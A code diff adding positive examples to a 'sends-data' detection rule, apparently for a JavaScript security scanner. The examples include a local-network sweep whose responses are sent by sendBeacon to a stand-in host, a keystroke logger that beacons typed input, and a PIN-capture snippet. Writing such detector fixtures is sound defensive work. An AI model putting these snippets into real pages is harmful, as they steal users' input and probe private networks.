@@ -4,6 +4,17 @@ import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
     js(
+      `for (let part = 1; part < 255; part++)
+  fetch(\`http://192.168.0.\${part}/\`)
+    .then((answer) => answer.text())
+^   .then((text) => navigator.sendBeacon('https://a.example', text))`,
+      'page',
+    ),
+    js(
+      `^document.addEventListener('beforeinput', (event) => navigator.sendBeacon('https://a.example', event.data))`,
+      'page',
+    ),
+    js(
       `const state = { digits: '' }
 const press = (digit) => { state.digits += digit }
 const enter = () => fetch(\`https://\${GetParentResourceName()}/login\`, { body: JSON.stringify({ pin: state.digits }) })
